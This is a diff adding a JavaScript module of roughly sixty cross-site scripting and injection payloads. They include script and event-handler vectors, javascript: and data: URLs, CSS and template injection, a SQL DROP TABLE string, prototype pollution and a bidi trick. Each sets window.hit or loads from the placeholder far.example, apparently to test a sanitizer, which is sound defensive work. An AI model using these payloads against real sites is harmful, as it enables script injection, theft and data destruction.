@@ -1,0 +1,73 @@
+/**
+ * Texts that would run a script where a page takes text for markup, for an address, for a style, for a template or for a
+ * key of an object. Each would set `window.hit`, or ask another server.
+ */
+export const PAYLOADS = [
+  // Elements that run by themselves.
+  "<script>window.hit=1</script>",
+  "<ScRiPt>window.hit=1</sCrIpT>",
+  "<script src=//far.example/hit.js></script>",
+  "<script/x>window.hit=1</script>",
+  "<<script>window.hit=1//<</script>",
+  "</title><script>window.hit=1</script>",
+  "</textarea><script>window.hit=1</script>",
+  "</style><script>window.hit=1</script>",
+  "--><script>window.hit=1</script>",
+  "]]><script>window.hit=1</script>",
+  "</script><script>window.hit=1</script>",
+  "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
+  // Handlers of events.
+  "<img src=x onerror=window.hit=1>",
+  '"><img src=x onerror=window.hit=1>',
+  "'><img src=x onerror=window.hit=1>",
+  "<img/src/onerror=window.hit=1>",
+  "<img src=`x` onerror=window.hit=1>",
+  '"><svg onload=window.hit=1>',
+  "<svg><script>window.hit=1</script></svg>",
+  "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'/></svg>",
+  "<body onload=window.hit=1>",
+  "<details open ontoggle=window.hit=1>",
+  "<video><source onerror=window.hit=1></video>",
+  "<audio src=x onerror=window.hit=1>",
+  "<input autofocus onfocus=window.hit=1>",
+  "<select autofocus onfocus=window.hit=1>",
+  "<marquee onstart=window.hit=1>",
+  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=window.hit=1>",
+  '" autofocus onfocus="window.hit=1',
+  "' onmouseover='window.hit=1",
+  "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hit=1>",
+  // Frames, bases, refreshes.
+  "<iframe src=javascript:parent.hit=1></iframe>",
+  '<iframe srcdoc="<script>parent.hit=1</script>">',
+  "<object data=javascript:window.hit=1>",
+  "<embed src=javascript:window.hit=1>",
+  "<base href=//far.example/hit/>",
+  "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
+  "<link rel=stylesheet href=//far.example/hit.css>",
+  // Addresses.
+  "javascript:window.hit=1",
+  "JaVaScRiPt:window.hit=1",
+  "java\tscript:window.hit=1",
+  "data:text/html,<script>window.hit=1</script>",
+  "<a href=javascript:window.hit=1>hit</a>",
+  "[hit](javascript:window.hit=1)",
+  "![hit](//far.example/hit.png)",
+  "[hit](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
+  "<javascript:window.hit=1>",
+  // Styles.
+  "x:expression(window.hit=1)",
+  "url(//far.example/hit.png)",
+  "}</style><style>*{background:url(//far.example/hit.png)}",
+  // Templates, formats, statements.
+  "{{constructor.constructor('window.hit=1')()}}",
+  "${window.hit=1}",
+  "<%= window.hit=1 %>",
+  "';window.hit=1;//",
+  "\\';window.hit=1;//",
+  "'; DROP TABLE runs; -- hit",
+  // Keys that objects have, and signs that turn texts around.
+  "__proto__[hit]=1",
+  "\u202e<script>window.hit=1</script>\u202c",
+];
